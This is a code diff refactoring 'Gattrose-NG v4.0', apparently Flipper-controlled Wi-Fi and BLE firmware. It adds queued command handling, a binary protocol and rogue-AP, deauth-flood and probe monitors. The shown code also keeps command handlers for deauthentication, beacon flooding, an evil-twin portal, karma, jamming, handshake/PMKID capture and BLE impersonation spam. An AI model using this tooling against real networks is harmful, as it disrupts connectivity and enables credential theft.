@@ -38,13 +38,33 @@
 #include "wifi_util.h"
 #include "wifi_drv.h"
 #include "wifi_structures.h"
+#include "flash_api.h"
 // BLE support re-enabled
 #include "BLEDevice.h"
 #include "BLEAdvertData.h"
 // #define NO_BLE_TEST 1  // Uncomment to disable BLE
 
 #include "dns.h"
-#include "debug.h"
+#include "log.h"
+#include "proto.h"
+#include "tx_ring.h"
+#include "mac_util.h"
+#include "mac_index.h"
+#include "fixed_table.h"
+#include "channel_sched.h"
+#include "net_tables.h"
+#include "frame_parser.h"
+#include "platform.h"
+#include "frame_stats.h"
+#include "capture_ring.h"
+#include "cmd_queue.h"
+#include "delta_log.h"
+#include "trace.h"
+#include "rogue_detect.h"
+#include "deauth_detect.h"
+#include "net_survey.h"
+#include "baseline_store.h"
+#include "probe_stats.h"
 
 // SDK 3.0.8 compatibility - LED pin names differ between SDK versions
 #ifndef LED_R
@@ -66,20 +86,24 @@
 
 // ============== Configuration ==============
 #define SERIAL_BAUD 115200
-#define MAX_NETWORKS 50
-#define MAX_CLIENTS 100
-#define MAX_CLIENTS_PER_AP 20
 #define MAX_DEAUTH_TASKS 5
 #define FRAMES_PER_DEAUTH 5
+#define BASELINE_FLASH_BASE 0x1F8000    // BS_SLOTS * BS_SLOT_SIZE at the top of the 2MB flash, clear of the image
 
 // ============== Protocol Markers ==============
 #define STX 0x02  // Start of text
 #define ETX 0x03  // End of text
 #define SEP 0x1D  // Field separator
 
-// ============== Scan Callback Buffer ==============
-// Fixed-size buffer for scan results - NO dynamic allocation in callback!
+// ============== Scan Result Queue ==============
+// The driver callback copies each result into a bounded queue and the
+// capture worker, which owns the tables, folds them in as they arrive - NO
+// dynamic allocation in callback! The scan task queues SCAN_BEGIN before
+// starting the radio, and SCAN_END itself if the driver never finishes.
+enum { SCAN_RESULT, SCAN_BEGIN, SCAN_END };
+
 typedef struct {
+    uint8_t kind;         // SCAN_*
     char ssid[33];        // SSID max 32 chars + null
     uint8_t bssid[6];
     int16_t rssi;
@@ -87,10 +111,12 @@ typedef struct {
     uint32_t security;
 } ScanResultRaw;
 
-#define MAX_SCAN_BUFFER 50
-static ScanResultRaw g_scanBuffer[MAX_SCAN_BUFFER];
-static volatile int g_scanCount = 0;
+#define SCAN_QUEUE_LEN 32
+static QueueHandle_t g_scanQueue = NULL;
+static volatile int g_scanCount = 0;      // Results handed over by the driver
+static volatile int g_scanDropped = 0;    // Results lost to a full queue
 static volatile bool g_scanComplete = false;
+static volatile bool g_scanAccepting = false;  // Cleared once the scan task gives up on the driver
 
 // ============== LED Pins ==============
 // Red: System ready
@@ -98,28 +124,21 @@ static volatile bool g_scanComplete = false;
 // Blue: Attack active
 
 // ============== Data Structures ==============
-typedef struct {
-    String ssid;
-    String bssid_str;
-    uint8_t bssid[6];
-    int16_t rssi;
-    uint8_t channel;
-    uint32_t security;
-    bool is_5ghz;
-    bool has_pmf;        // Protected Management Frames - can't deauth
-    bool hidden;         // Hidden/empty SSID
-    int client_count;
-    uint8_t clients[MAX_CLIENTS_PER_AP][6];
-    int8_t client_rssi[MAX_CLIENTS_PER_AP];
-} WiFiNetwork;
+// Network/client records and tables live in net_tables.h
 
 typedef struct {
-    uint8_t mac[6];
-    String mac_str;
-    int8_t rssi;
-    int ap_index;
-    unsigned long last_seen;
-} WiFiClient_t;
+    int scan_time;
+    bool merge;          // Update the table in place instead of rebuilding it
+    bool stream;         // Forward each result to the host as it arrives
+    uint16_t req_id;     // Request ID of the 's' command, echoed in its results
+} ScanRequest;
+
+// Scan being folded in by the capture worker. The scan task fills in the
+// request before queueing SCAN_BEGIN; the worker sets table_full before
+// notifying it that SCAN_END was handled.
+static ScanRequest g_scanRequest;
+static bool g_scanActive = false;           // Between SCAN_BEGIN and SCAN_END, worker only
+static volatile int g_scanTableFull = 0;    // Results the table had no room for
 
 typedef struct {
     TaskHandle_t handle;
@@ -152,61 +171,14 @@ enum PortalType {
     PORTAL_WAIT
 };
 
-// ============== Probe Log Entry ==============
-typedef struct {
-    char ssid[33];
-    uint8_t client_mac[6];
-    int8_t rssi;
-    unsigned long timestamp;
-} ProbeLogEntry;
-
-// ============== PMKID Entry ==============
-typedef struct {
-    uint8_t pmkid[16];
-    uint8_t ap_mac[6];
-    uint8_t client_mac[6];
-    char ssid[33];
-    bool valid;
-} PMKIDEntry;
-
-// ============== Handshake Entry ==============
-typedef struct {
-    uint8_t ap_mac[6];
-    uint8_t client_mac[6];
-    char ssid[33];
-    uint8_t anonce[32];
-    uint8_t snonce[32];
-    uint8_t mic[16];
-    uint8_t eapol_frame[256];
-    uint16_t eapol_len;
-    uint8_t msg_mask;  // Bits: msg1=0x01, msg2=0x02, msg3=0x04, msg4=0x08
-    bool complete;
-} HandshakeEntry;
-
 // ============== Global State ==============
-std::vector<WiFiNetwork> networks;
-std::vector<WiFiClient_t> clients;
 std::vector<BLEDevice_t> ble_devices;
-std::vector<ProbeLogEntry> probeLog;
-std::vector<PMKIDEntry> pmkidList;
-std::vector<HandshakeEntry> handshakeList;
+ProbeStats probeStats;              // Probe analytics ('P'), fed by the capture worker
 
-// Feature flags
+// Feature flags (PMKID/handshake capture flags live in frame_parser.h)
 bool probeLogActive = false;
-bool pmkidCaptureActive = false;
-bool handshakeCaptureActive = false;
 bool karmaActive = false;
 bool jammerActive = false;
-bool rogueDetectorActive = false;
-
-// ============== Rogue AP Baseline Entry ==============
-typedef struct {
-    uint8_t bssid[6];
-    char ssid[33];
-    uint8_t channel;
-} BaselineAP;
-
-std::vector<BaselineAP> apBaseline;
 
 // Task handles
 TaskHandle_t scanTask = NULL;
@@ -215,6 +187,7 @@ TaskHandle_t clientHandlerTask = NULL;
 TaskHandle_t beaconFloodTask = NULL;
 TaskHandle_t customBeaconTask = NULL;
 TaskHandle_t bleSpamTask = NULL;
+TaskHandle_t bleScanTask = NULL;
 TaskHandle_t promiscTask = NULL;
 
 DeauthTask deauthTasks[MAX_DEAUTH_TASKS];
@@ -229,16 +202,38 @@ int current_channel = 6;
 WiFiServer server(80);
 PortalType currentPortal = PORTAL_DEFAULT;
 
-// Protocol buffer (Serial1 - Flipper)
-const byte MAX_CMD_LEN = 64;
-byte cmdBuffer[MAX_CMD_LEN];
-byte cmdLen = 0;
-bool cmdReady = false;
-
-// Protocol buffer (Serial - USB debug)
-byte usbCmdBuffer[MAX_CMD_LEN];
-byte usbCmdLen = 0;
-bool usbCmdReady = false;
+// Command intake: cmdIntakeTaskFunc frames bytes from Serial1 (Flipper) and
+// Serial (USB debug) into cmdQueue; cmdDispatchTaskFunc runs them. Commands
+// that block for seconds go on to slowCmdQueue and cmdSlowTaskFunc; those
+// reading what the capture worker writes go on to workerCmdQueue.
+CmdQueue cmdQueue;
+CmdQueue slowCmdQueue;
+CmdQueue workerCmdQueue;
+TaskHandle_t cmdIntakeTask = NULL;
+TaskHandle_t cmdDispatchTask = NULL;
+TaskHandle_t cmdSlowTask = NULL;
+uint32_t cmdLatencyMaxUs = 0;       // Worst ETX-to-dispatch delay seen
+
+// Request ID each command-answering task is currently serving (see
+// setTaskRequestId): dispatcher, slow worker, capture worker, WiFi scan and
+// BLE scan, with room to spare
+#define REQ_TASK_SLOTS 8
+TaskHandle_t reqTasks[REQ_TASK_SLOTS];
+volatile uint16_t reqIds[REQ_TASK_SLOTS];
+
+// Response format: false = STX/ETX text (default), true = binary frames (proto.h)
+bool binaryProto = false;
+
+// Outgoing responses are queued here and drained by txWriterTaskFunc, so
+// producers (promisc callback, scan task, main loop) never block on the UART
+TxRing txRing;
+TxRing logRing;     // Debug lines for USB only, drained after protocol traffic
+TaskHandle_t txWriterTask = NULL;
+
+// Promiscuous frames are copied here by promiscCallback and parsed by
+// captureWorkerFunc, keeping the driver callback short
+CaptureRing captureRing;
+TaskHandle_t captureWorkerTask = NULL;
 
 // LED Rainbow state
 TaskHandle_t ledTask = NULL;
@@ -262,14 +257,13 @@ TaskHandle_t channelHopTask = NULL;
 int currentPromiscChannel = 1;
 unsigned long lastFrameCount = 0;
 unsigned long frameCount = 0;
-
-// Frame capture counters (for debug)
-unsigned long dataFrameCount = 0;
-unsigned long unmatchedBssidCount = 0;
-unsigned long lastDebugPrint = 0;
-unsigned long probeCount = 0;
-unsigned long assocCount = 0;
-unsigned long authCount = 0;
+FrameStats frameStats;              // Per-channel frame telemetry ('f' command)
+RogueDetector rogueDetector;        // Baseline and state for 'R', checked by the capture worker
+DeauthDetector deauthDetector;      // Deauth/disassoc flood monitor ('D'), fed by the capture worker
+NetSurvey netSurvey;                // Passive inventory ('sv'), fed by the capture worker
+bool tableSubscribed = false;       // Stream table changes from deltaLog ('u')
+BaselineStore baselineStore;        // Where rogueDetector's baseline lives in flash
+flash_t baselineFlash;
 
 // Evil Twin state
 volatile bool evilTwinActive = false;
@@ -295,14 +289,28 @@ int channels_2g[] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11};
 int channels_5g[] = {36, 40, 44, 48, 149, 153, 157, 161};
 
 // ============== Forward Declarations ==============
-void processCommand();
+void processCommand(CmdMsg* msg);
+void cmdIntakeTaskFunc(void* params);
+void cmdDispatchTaskFunc(void* params);
+void cmdSlowTaskFunc(void* params);
 void sendResponse(char type, String data);
+void sendResponseText(char type, const String& data);
+void setTaskRequestId(uint16_t id);
+uint16_t taskRequestId();
+uint16_t pauseTaskRequestId();
+void sendFrame(char type, const uint8_t* payload, uint16_t len);
+void sendClientRecord(int apIndex, uint8_t* mac, int rssi);
+void txWriterTaskFunc(void* params);
 void sendNetworkList();
+void sendNetworkRecord(int index, WiFiNetwork& net);
 void sendClientList();
+void sendTableChange(const DeltaChange* change, uint32_t version);
+void sendTableResync(uint32_t since);
 void sendBLEList();
 
 // WiFi functions
 void scanNetworksTask(void* params);
+void cmd_survey(char* args);
 void startDeauth(int index, int reason, uint8_t* targetClient);
 void stopAllDeauth();
 void deauthTask(void* params);
@@ -323,16 +331,23 @@ void handleHTTPRequest(WiFiClient& client, String& request);
 // BLE functions
 void startBLEScan();
 void stopBLEScan();
+void bleScanTaskFunc(void* params);
 void startBLESpam();
 void stopBLESpam();
 void bleSpamTaskFunc(void* params);
 
 // Client detection
 void startPromisc();
+void sendChannelStats();
+void cmd_frame_stats(char* args);
+void cmd_clients(char* args);
+void cmd_subscribe(char* args);
+void sendFrameStats();
 void stopPromisc();
 void promiscCallback(unsigned char* buf, unsigned int len, void* userdata);
-void processManagementFrame(uint8_t* frame, int len, int rssi, uint8_t subtype);
-void processDataFrame(uint8_t* frame, int len, int rssi, uint8_t* bssidFromInfo);
+void captureWorkerFunc(void* params);
+void cmd_trace(char* args);
+void sendTraceStats();
 
 // Utility
 String macToString(uint8_t* mac);
@@ -340,7 +355,6 @@ void stringToMac(String str, uint8_t* mac);
 String getSecurityString(uint32_t security);
 String generateRandomString(int len);
 uint32_t stringHash(const String& str);
-void sortNetworks();
 bool hasPMF(uint32_t security);
 
 // LED functions
@@ -363,11 +377,13 @@ void cmd_handshake(char* args);
 void cmd_karma(char* args);
 void cmd_jammer(char* args);
 void cmd_rogue_detector(char* args);
-void checkForRogueAPs();
-void sendProbeLog();
+void saveRogueBaseline();
+void cmd_deauth_detector(char* args);
+void sendDeauthTable();
+void sendProbeSummary();
+void sendProbeWindows();
 void sendPMKIDList();
 void sendHandshakeList();
-void processEAPOL(uint8_t* frame, int len, int rssi);
 void jammerTaskFunc(void* params);
 
 // ============== Setup ==============
@@ -380,6 +396,36 @@ void setup() {
 
     Serial1.begin(SERIAL_BAUD);  // Flipper communication
 
+    // Response writer - must be up before the first sendResponse() or LOG_*
+    txRingInit(&txRing);
+    txRingInit(&logRing);
+    xTaskCreate(txWriterTaskFunc, "txwriter", 1024, NULL, 1, &txWriterTask);
+
+    // Lookup indexes and channel set over the fixed network/client tables
+    netTablesInit();
+    rogueInit(&rogueDetector);
+    deauthInit(&deauthDetector);
+    surveyInit(&netSurvey);
+    baselineStoreInit(&baselineStore);
+    bool baselineRestored = baselineLoad(&baselineStore, &rogueDetector);
+
+    g_scanQueue = xQueueCreate(SCAN_QUEUE_LEN, sizeof(ScanResultRaw));
+
+#ifdef GATTROSE_TRACE
+    if (!traceInit()) LOG_WARN("Trace: no DWT cycle counter");
+#endif
+
+    captureRingInit(&captureRing);
+    xTaskCreate(captureWorkerFunc, "capture", 4096, NULL, 2, &captureWorkerTask);
+
+    // Commands are taken from the UARTs as they arrive; loop() no longer polls
+    cmdQueueInit(&cmdQueue);
+    cmdQueueInit(&slowCmdQueue);
+    cmdQueueInit(&workerCmdQueue);
+    xTaskCreate(cmdSlowTaskFunc, "cmdslow", 4096, NULL, 1, &cmdSlowTask);
+    xTaskCreate(cmdDispatchTaskFunc, "cmddispatch", 4096, NULL, 2, &cmdDispatchTask);
+    xTaskCreate(cmdIntakeTaskFunc, "cmdintake", 2048, NULL, 3, &cmdIntakeTask);
+
     // Initialize LEDs (active HIGH - LOW = off)
     pinMode(LED_R, OUTPUT);
     pinMode(LED_G, OUTPUT);
@@ -388,98 +434,145 @@ void setup() {
     digitalWrite(LED_G, LOW);
     digitalWrite(LED_B, LOW);
 
-    Serial.println("LEDs init");
-    Serial.flush();
+    LOG_DEBUG("LEDs init");
 
     // Initialize WiFi via Arduino API
-    Serial.println("WiFi init...");
-    Serial.flush();
+    LOG_INFO("WiFi init...");
     WiFi.status();  // This triggers proper initialization
     delay(1000);
-    Serial.println("WiFi done");
-    Serial.flush();
+    LOG_INFO("WiFi done");
 
     // Play morse code boot sequence
     playMorseBootSequence();
 
     // DON'T start promisc at boot - it blocks wifi_scan_networks!
-    // Promisc will auto-start after first scan completes
-    Serial.println("Ready for scan (promisc starts after scan)");
-    Serial.flush();
+    // Promisc will auto-start after first scan completes. The exception is a
+    // sensor that was left monitoring for rogue APs: scans pause promisc
+    // themselves, and until one runs the hop task covers common channels.
+    if (baselineRestored) {
+        LOG_INFO("Rogue baseline restored: %d APs, generation %lu",
+                 (int)rogueDetector.baseline.size(), (unsigned long)baselineStore.generation);
+    }
+    if (rogueDetector.active) {
+        startPromisc();
+        LOG_INFO("Rogue AP monitoring resumed");
+    } else {
+        LOG_INFO("Ready for scan (promisc starts after scan)");
+    }
 
     // Signal ready - solid green (LEDs are active HIGH)
     digitalWrite(LED_G, HIGH);   // On
 
-    Serial.println("Gattrose-NG v4.0 Ready");
-    Serial.flush();
+    LOG_INFO("Gattrose-NG v4.0 Ready");
     sendResponse('r', "GATTROSE-NG:4.0");
 }
 
 // ============== Main Loop ==============
 void loop() {
-    // Read commands from Flipper (Serial1)
-    while (Serial1.available() > 0) {
-        byte b = Serial1.read();
+    // Do deauth TX in main loop context (not task)
+    doDeauthInMainLoop();
+
+    delay(10);
+}
+
+// ============== Command Intake ==============
+
+// Moves received bytes into the command framers. The Arduino core owns the
+// UART interrupt and buffers into its own ring, so this drains that ring
+// every tick and does nothing else; a slow handler can't hold it up.
+void cmdIntakeTaskFunc(void* params) {
+    (void)params;
+    static CmdFramer flipper, usb;
+    cmdFramerInit(&flipper, CMD_SRC_FLIPPER);
+    cmdFramerInit(&usb, CMD_SRC_USB);
 
-        if (b == STX) {
-            cmdLen = 0;
-            cmdReady = false;
-        } else if (b == ETX) {
-            cmdBuffer[cmdLen] = '\0';
-            cmdReady = true;
-        } else if (cmdLen < MAX_CMD_LEN - 1) {
-            cmdBuffer[cmdLen++] = b;
+    while (true) {
+        bool queued = false;
+        for (int port = 0; port < 2; port++) {
+            CmdFramer* f = port == 0 ? &flipper : &usb;
+            while (port == 0 ? Serial1.available() > 0 : Serial.available() > 0) {
+                int b = port == 0 ? Serial1.read() : Serial.read();
+                if (b < 0) break;
+                int r = cmdFramerPush(f, (uint8_t)b);
+                if (r == CMD_FRAME_DONE) {
+                    f->msg.received_us = micros();
+                    queued |= cmdQueuePush(&cmdQueue, &f->msg);
+                } else if (r == CMD_FRAME_TOO_LONG) {
+                    cmdQueue.too_long.fetch_add(1, std::memory_order_relaxed);
+                } else if (r == CMD_FRAME_BAD_ID) {
+                    cmdQueue.bad_id.fetch_add(1, std::memory_order_relaxed);
+                    sendResponse('e', "BAD_REQUEST_ID");
+                }
+            }
         }
+        if (queued) xTaskNotifyGive(cmdDispatchTask);
+        vTaskDelay(1);
     }
+}
 
-    // Also read from USB Serial (for testing without Flipper)
-    while (Serial.available() > 0) {
-        byte b = Serial.read();
+// Closes the responses to a command sent with a request ID. Anything it
+// started in the background (scan results, SCAN_DONE) follows later under
+// the same ID.
+void sendRequestEnd(const CmdMsg* msg) {
+    if (msg->req_id) sendResponse('E', String(msg->text[0]));
+}
 
-        if (b == STX) {
-            usbCmdLen = 0;
-            usbCmdReady = false;
-        } else if (b == ETX) {
-            usbCmdBuffer[usbCmdLen] = '\0';
-            usbCmdReady = true;
-        } else if (usbCmdLen < MAX_CMD_LEN - 1) {
-            usbCmdBuffer[usbCmdLen++] = b;
+// Runs commands in arrival order. Handlers that block for seconds are passed
+// to cmdSlowTaskFunc instead, so everything else is answered meanwhile.
+void cmdDispatchTaskFunc(void* params) {
+    (void)params;
+    while (true) {
+        CmdMsg* msg = cmdQueuePeek(&cmdQueue);
+        if (!msg) {
+            ulTaskNotifyTake(pdTRUE, 10 / portTICK_PERIOD_MS);
+            continue;
         }
-    }
 
-    if (cmdReady) {
-        processCommand();
-        cmdReady = false;
-    }
+        uint32_t waited = micros() - msg->received_us;
+        if (waited > cmdLatencyMaxUs) cmdLatencyMaxUs = waited;
 
-    if (usbCmdReady) {
-        // Copy USB command to main buffer and process
-        memcpy(cmdBuffer, usbCmdBuffer, usbCmdLen + 1);
-        cmdLen = usbCmdLen;
-        processCommand();
-        usbCmdReady = false;
+        setTaskRequestId(msg->req_id);
+        if (cmdIsSlow(msg) || cmdOnWorker(msg)) {
+            bool slow = cmdIsSlow(msg);
+            if (cmdQueuePush(slow ? &slowCmdQueue : &workerCmdQueue, msg)) {
+                xTaskNotifyGive(slow ? cmdSlowTask : captureWorkerTask);
+            } else {
+                sendResponse('e', "BUSY");
+                sendRequestEnd(msg);
+            }
+        } else {
+            processCommand(msg);
+            sendRequestEnd(msg);
+        }
+        cmdQueueRelease(&cmdQueue);
     }
+}
 
-    // Do deauth TX in main loop context (not task)
-    doDeauthInMainLoop();
-
-    delay(10);
+// Slow commands, one at a time in the order they were sent
+void cmdSlowTaskFunc(void* params) {
+    (void)params;
+    while (true) {
+        CmdMsg* msg = cmdQueuePeek(&slowCmdQueue);
+        if (!msg) {
+            ulTaskNotifyTake(pdTRUE, portMAX_DELAY);
+            continue;
+        }
+        setTaskRequestId(msg->req_id);
+        processCommand(msg);
+        sendRequestEnd(msg);
+        cmdQueueRelease(&slowCmdQueue);
+    }
 }
 
 // ============== Command Processing ==============
-void processCommand() {
-    if (cmdLen == 0) return;
+void processCommand(CmdMsg* msg) {
+    char cmd = msg->text[0];
+    char* args = &msg->text[1];
 
-    char cmd = cmdBuffer[0];
-    char* args = (char*)&cmdBuffer[1];
-
-    DEBUG_SER_PRINT("CMD: ");
-    DEBUG_SER_PRINT(cmd);
-    DEBUG_SER_PRINT(" Args: ");
-    DEBUG_SER_PRINTLN(args);
+    LOG_DEBUG("CMD: %c Args: %s", cmd, args);
 
     switch (cmd) {
-        case 's': // Scan networks
+        case 's': // Scan networks (sv0/sv1/svs = passive survey off/on/stats)
             cmd_scan(args);
             break;
 
@@ -487,8 +580,12 @@ void processCommand() {
             sendNetworkList();
             break;
 
-        case 'c': // Get client list
-            sendClientList();
+        case 'c': // Clients (c=list, cs=table stats, ct<sec>=set TTL)
+            cmd_clients(args);
+            break;
+
+        case 'u': // Table changes (u1=subscribe, u0=stop, ur<ver>=resync, ut<db>=RSSI step, us=stats)
+            cmd_subscribe(args);
             break;
 
         case 'd': // Deauth
@@ -519,8 +616,8 @@ void processCommand() {
             cmd_ap_settings(args);
             break;
 
-        case 'i': // Info/status
-            cmd_info();
+        case 'i': // Info/status (iB = binary responses, iT = text responses)
+            cmd_info(args);
             break;
 
         case 'x': // Stop all
@@ -535,7 +632,7 @@ void processCommand() {
             cmd_led(args);
             break;
 
-        case 'P': // Probe logger (P0=off, P1=on, Pg=get)
+        case 'P': // Probe analytics (P0=off, P1=on, Pg=summary + top SSIDs, Pw=windows, Pc=clear)
             cmd_probe_log(args);
             break;
 
@@ -555,12 +652,24 @@ void processCommand() {
             cmd_jammer(args);
             break;
 
-        case 'R': // Rogue AP Detector (R0=off, R1=set baseline, R2=start monitoring)
+        case 'R': // Rogue AP Detector (R0=off, R1=set baseline, R2=start monitoring, Rs=stats, Rx=erase stored)
             cmd_rogue_detector(args);
             break;
 
+        case 'D': // Deauth flood monitor (D0=off, D1=on, Ds=stats, Dl=list, Dc=clear, Dt<n>=threshold)
+            cmd_deauth_detector(args);
+            break;
+
+        case 'f': // Frame statistics (f=snapshot, fc=clear)
+            cmd_frame_stats(args);
+            break;
+
+        case 't': // Cycle trace (t=dump, tc=clear), needs GATTROSE_TRACE
+            cmd_trace(args);
+            break;
+
         default:
-            DEBUG_SER_PRINTLN("Unknown command");
+            LOG_WARN("Unknown command %c", cmd);
             break;
     }
 }
@@ -568,6 +677,22 @@ void processCommand() {
 // ============== Command Handlers ==============
 
 void cmd_scan(char* args) {
+    if (args[0] == SEP) args++;
+    if (args[0] == 'v') {
+        cmd_survey(args + 1);
+        return;
+    }
+
+    // Options before the time: m = merge into the existing table,
+    // l = stream results live
+    bool merge = false;
+    bool stream = false;
+    while (*args && !isdigit(*args)) {
+        if (*args == 'm') merge = true;
+        if (*args == 'l') stream = true;
+        args++;
+    }
+
     int scanTime = 5000;
     if (strlen(args) > 0) {
         scanTime = atoi(args);
@@ -578,27 +703,46 @@ void cmd_scan(char* args) {
     // Run scan in background task for proper callback processing
     if (scanTask == NULL) {
         sendResponse('s', "SCANNING");
-        int* timeParam = new int(scanTime);
-        xTaskCreate(scanNetworksTask, "scan", 4096, timeParam, 1, &scanTask);
+        ScanRequest* req = new ScanRequest;
+        req->scan_time = scanTime;
+        req->merge = merge;
+        req->stream = stream;
+        req->req_id = taskRequestId();
+        xTaskCreate(scanNetworksTask, "scan", 4096, req, 1, &scanTask);
     } else {
         sendResponse('e', "SCAN_BUSY");
     }
 }
 
-void cmd_deauth(char* args) {
-    DEBUG_SER_PRINTLN("cmd_deauth entered");
-    Serial.flush();
+// Passive survey: sv1 = on, sv0 = off, svs = stats. Unlike a scan this
+// keeps promiscuous mode, and client tracking, running throughout.
+void cmd_survey(char* args) {
+    if (args[0] == '1') {
+        netSurvey.active = true;
+        startPromisc();
+        sendResponse('s', "SURVEY_ON");
+    } else if (args[0] == '0') {
+        netSurvey.active = false;
+        sendResponse('s', "SURVEY_OFF");
+    } else {
+        sendResponse('s', "SURVEY:" + String(netSurvey.active ? 1 : 0) +
+                          "|NETS:" + String(activeNetworkCount()) +
+                          "|FRAMES:" + String(netSurvey.frames) +
+                          "|ADDED:" + String(netSurvey.added) +
+                          "|UPDATED:" + String(netSurvey.updated) +
+                          "|RETIRED:" + String(netSurvey.retired) +
+                          "|FULL:" + String(netSurvey.full) +
+                          "|SWEEPS:" + String(netSurvey.sweeps));
+    }
+}
 
+void cmd_deauth(char* args) {
     // Skip separator if present
     if (args[0] == SEP) args++;
 
-    DEBUG_SER_PRINT("args: ");
-    DEBUG_SER_PRINTLN(args);
-    Serial.flush();
-
     if (args[0] == 's') {
         // Stop all deauth
-        DEBUG_SER_PRINTLN("Stopping all deauth");
+        LOG_INFO("Stopping all deauth");
         stopAllDeauth();
         sendResponse('d', "STOPPED");
     } else {
@@ -618,18 +762,10 @@ void cmd_deauth(char* args) {
             index = atoi(args);
         }
 
-        DEBUG_SER_PRINT("Parsed index: ");
-        DEBUG_SER_PRINT(index);
-        DEBUG_SER_PRINT(" networks.size: ");
-        DEBUG_SER_PRINTLN(networks.size());
-        Serial.flush();
+        LOG_DEBUG("Deauth index %d reason %d (networks: %d)", index, reason, (int)networks.size());
 
-        if (index >= 0 && index < (int)networks.size()) {
-            DEBUG_SER_PRINTLN("Calling startDeauth");
-            Serial.flush();
+        if (isActiveNetwork(index)) {
             startDeauth(index, reason, targetClient);
-            DEBUG_SER_PRINTLN("startDeauth returned");
-            Serial.flush();
             sendResponse('d', "DEAUTH:" + String(index));
         } else {
             sendResponse('e', "INVALID_INDEX");
@@ -688,12 +824,12 @@ void cmd_beacon(char* args) {
 void cmd_ble(char* args) {
     if (args[0] == SEP) args++;
     if (args[0] == 's') {
-        // Scan
+        // Scan (runs in its own task; SCAN_DONE follows when it ends)
         startBLEScan();
-        sendResponse('l', "BLE_SCANNING");
     } else if (args[0] == 'g') {
-        // Get BLE devices
-        sendBLEList();
+        // Get BLE devices - not while the scan callback is still adding them
+        if (bleScanActive) sendResponse('e', "BLE_SCANNING");
+        else sendBLEList();
     } else if (args[0] == 'p') {
         // Spam with optional type: lp0=random, lp1=FastPair, lp2=SwiftPair, lp3=AirTag, lp4=all
         if (args[1] >= '0' && args[1] <= '4') {
@@ -719,6 +855,8 @@ void cmd_monitor(char* args) {
     if (args[0] == '1') {
         startPromisc();
         sendResponse('m', "MONITOR_ON");
+    } else if (args[0] == 'g') {
+        sendChannelStats();
     } else {
         stopPromisc();
         sendResponse('m', "MONITOR_OFF");
@@ -745,14 +883,36 @@ void cmd_ap_settings(char* args) {
     sendResponse('a', "AP_CONFIG_SET");
 }
 
-void cmd_info() {
-    String info = "V:4.0|N:" + String(networks.size()) +
-                  "|C:" + String(clients.size()) +
+void cmd_info(char* args) {
+    if (args[0] == SEP) args++;
+
+    // Format negotiation - the ack always goes out as text so the host can
+    // read it regardless of which mode it thinks we're in. Other tasks keep
+    // sending meanwhile, so the mode only changes once, after the ack.
+    if (args[0] == 'B' || args[0] == 'T') {
+        sendResponseText('i', args[0] == 'B' ? "FMT:BIN" : "FMT:TEXT");
+        binaryProto = (args[0] == 'B');
+        return;
+    }
+
+    String info = "V:4.0|N:" + String(activeNetworkCount()) +
+                  "|C:" + String(activeClientCount()) +
                   "|CH:" + String(current_channel) +
                   "|D:" + String(deauthTaskCount) +
                   "|B:" + String(beaconFloodTask != NULL ? 1 : 0) +
                   "|W:" + String(wifiServerTask != NULL ? 1 : 0) +
-                  "|BLE:" + String(ble_devices.size());
+                  "|BLE:" + String(ble_devices.size()) +
+                  "|FMT:" + String(binaryProto ? "BIN" : "TEXT") +
+                  "|TXHW:" + String(txRing.high_water.load()) + "/" + String(TX_RING_SLOTS) +
+                  "|TXDROP:" + String(txRing.drops.load()) +
+                  "|LOGDROP:" + String(logRing.drops.load()) +
+                  "|CAPHW:" + String(captureRing.high_water.load()) + "/" + String(CAPTURE_RING_SLOTS) +
+                  "|CAPDROP:" + String(captureRing.drops.load()) +
+                  "|CMDHW:" + String(cmdQueue.high_water.load()) + "/" + String(CMD_QUEUE_SLOTS) +
+                  "|CMDDROP:" + String(cmdQueue.drops.load() + slowCmdQueue.drops.load() + workerCmdQueue.drops.load()) +
+                  "|CMDLONG:" + String(cmdQueue.too_long.load()) +
+                  "|CMDBAD:" + String(cmdQueue.bad_id.load()) +
+                  "|CMDLAT:" + String(cmdLatencyMaxUs);
     sendResponse('i', info);
 }
 
@@ -847,59 +1007,410 @@ void cmd_led(char* args) {
 
 // ============== Response Functions ==============
 
+// Queue a response for the writer task. Never blocks; drops (and counts)
+// when the ring is full.
+void queueResponse(const TxPart* parts, int count) {
+    if (txRingPush(&txRing, parts, count) && txWriterTask) {
+        xTaskNotifyGive(txWriterTask);
+    }
+}
+
+// Sets the request ID echoed in every response the calling task sends, 0
+// for none (which also frees the task's slot). Only tasks answering a
+// command set one; unsolicited output (alerts, captures) never has an ID.
+void setTaskRequestId(uint16_t id) {
+    TaskHandle_t self = xTaskGetCurrentTaskHandle();
+    taskENTER_CRITICAL();
+    int freeSlot = -1;
+    for (int i = 0; i < REQ_TASK_SLOTS; i++) {
+        if (reqTasks[i] == self) {
+            reqIds[i] = id;
+            if (id == 0) reqTasks[i] = NULL;
+            taskEXIT_CRITICAL();
+            return;
+        }
+        if (reqTasks[i] == NULL && freeSlot < 0) freeSlot = i;
+    }
+    if (id != 0 && freeSlot >= 0) {
+        reqIds[freeSlot] = id;
+        reqTasks[freeSlot] = self;
+    }
+    taskEXIT_CRITICAL();
+    if (id != 0 && freeSlot < 0) {
+        LOG_WARN("No request ID slot free, #%u answered without it", id);
+    }
+}
+
+// Sends the calling task's output without its request ID until
+// setTaskRequestId() restores it. The slot stays held meanwhile, so the
+// restore cannot find the table full. Returns the ID to restore.
+uint16_t pauseTaskRequestId() {
+    TaskHandle_t self = xTaskGetCurrentTaskHandle();
+    for (int i = 0; i < REQ_TASK_SLOTS; i++) {
+        if (reqTasks[i] == self) {
+            uint16_t id = reqIds[i];
+            reqIds[i] = 0;
+            return id;
+        }
+    }
+    return 0;
+}
+
+// Only the owning task changes its slot's ID, so no lock is needed here
+uint16_t taskRequestId() {
+    TaskHandle_t self = xTaskGetCurrentTaskHandle();
+    for (int i = 0; i < REQ_TASK_SLOTS; i++) {
+        if (reqTasks[i] == self) return reqIds[i];
+    }
+    return 0;
+}
+
+void writeResponseBytes(const uint8_t* buf, size_t len) {
+    TxPart part = {buf, len};
+    queueResponse(&part, 1);
+}
+
 void sendResponse(char type, String data) {
-    // Send to Flipper (Serial1)
-    Serial1.write(STX);
-    Serial1.write(type);
-    Serial1.print(data);
-    Serial1.write(ETX);
-    Serial1.flush();
-
-    // Also echo to USB Serial for testing
-    Serial.write(STX);
-    Serial.write(type);
-    Serial.print(data);
-    Serial.write(ETX);
-    Serial.flush();
+    if (binaryProto) {
+        // Text payloads (status strings, errors) ride inside a binary frame
+        uint16_t len = data.length();
+        if (len > PROTO_MAX_PAYLOAD) len = PROTO_MAX_PAYLOAD;
